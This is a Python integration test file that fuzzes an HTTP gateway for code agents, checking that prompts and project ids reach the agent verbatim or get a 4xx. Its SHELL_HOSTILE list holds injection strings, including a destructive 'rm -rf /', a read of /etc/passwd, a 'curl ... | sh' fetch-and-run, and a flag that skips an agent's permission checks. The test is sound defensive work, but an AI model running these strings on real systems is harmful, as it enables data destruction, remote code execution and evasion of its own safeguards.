"""Hostile input through real HTTP: generated prompts, project ids and metadata reach the
agent verbatim, or get the documented 4xx. Never a 5xx, never a shell."""

from __future__ import annotations

import re
import time
from urllib.parse import quote

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from handlers.api import create_app
from handlers.settings import Settings
from tests.fakes.agents import FakeCodeAgent
from tests.fakes.servers import RunningServer
from tests.integration.helpers import app_with_fake_agent

PROJECT_ID = re.compile(r"[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?")
SHELL_HOSTILE = [
    "$(touch /tmp/pwned)",
    "`id`; rm -rf / #",
    "'; cat /etc/passwd; echo '",
    '" && curl http://example.com | sh',
    "--help",
    "-p --dangerously-skip-permissions",
    "line one\nline two\r\n\x00 nul and \x1b[31m escape",
    "😀 ünïcødé \u202e right-to-left \ufeff",
]
PROMPTS = st.sampled_from(SHELL_HOSTILE) | st.text(min_size=1, max_size=3000)
PROJECTS = st.from_regex(PROJECT_ID, fullmatch=True) | st.text(max_size=70)
METADATA = st.dictionaries(st.text(max_size=300), st.text(max_size=50), max_size=5)
FUZZ = settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


@pytest.fixture(scope="module")
def recorded():
    """The whole app under uvicorn, with an agent that records every request it gets."""
    with app_with_fake_agent(FakeCodeAgent(texts=("ok",))) as server:
        yield server


def _valid_text(value: str) -> bool:
    try:
        value.encode("utf-8")
    except UnicodeEncodeError:
        return False
    return True


@FUZZ
@given(project=PROJECTS, prompt=PROMPTS, metadata=METADATA)
def test_generated_requests_reach_the_agent_verbatim_or_get_a_4xx(
    recorded, project, prompt, metadata
):
    started = len(recorded.agent.started)
    response = httpx.post(
        f"{recorded.url}/projects/{quote(project, safe='')}/runs",
        json={"prompt": prompt, "metadata": metadata},
        timeout=30,
    )
    valid = (
        PROJECT_ID.fullmatch(project) is not None
        and _valid_text(prompt)
        and all(_valid_text(k + v) and 1 <= len(k) <= 256 for k, v in metadata.items())
    )
    if valid:
        assert response.status_code == 202, response.text
        request = recorded.agent.started[started]
        assert (request.project_id, request.prompt, dict(request.metadata)) == (
            project,
            prompt,
            metadata,
        )
    else:
        # An id with "/" or "." segments may route elsewhere (404/405); the rest is 422.
        assert response.status_code in (404, 405, 422), response.text
        assert response.json()["error"]["code"]
        assert len(recorded.agent.started) == started


@pytest.fixture(scope="module")
def claude_gateway(tmp_path_factory):
    """The real local runner and the fake claude CLI, which writes the stdin it got."""
    from handlers.bootstrap import build_gateway
    from tests.conftest import fake_claude_command

    workspace = tmp_path_factory.mktemp("workspaces")
    settings_ = Settings(
        claude_command=fake_claude_command(),
        workspace_root=workspace,
        providers="claude-code",
        rate_limit_per_s=0,
        max_runs_per_project=1000,
    )
    with RunningServer(create_app(build_gateway(settings_)), lifespan="on") as server:
        server.workspace = workspace
        yield server


@settings(max_examples=40, deadline=None)
@given(prompt=PROMPTS.filter(_valid_text))
def test_prompts_reach_the_claude_process_stdin_byte_for_byte(claude_gateway, prompt):
    project = f"p{time.monotonic_ns()}"  # a folder of its own per example
    response = httpx.post(
        f"{claude_gateway.url}/projects/{project}/claude", json={"prompt": prompt}, timeout=30
    )
    assert response.status_code == 202, response.text
    received = claude_gateway.workspace / project / "received_prompt.bin"
    deadline = time.monotonic() + 15
    while not (received.exists() and received.stat().st_size >= len(prompt.encode())):
        assert time.monotonic() < deadline, "the agent never got the prompt"
        time.sleep(0.01)
    assert received.read_bytes() == prompt.encode()
    # The fake acts on some first words (slow, children, ...): stop whatever it started.
    cancel = httpx.post(f"{claude_gateway.url}{response.json()['cancel_url']}", timeout=30)
    assert cancel.status_code == 200
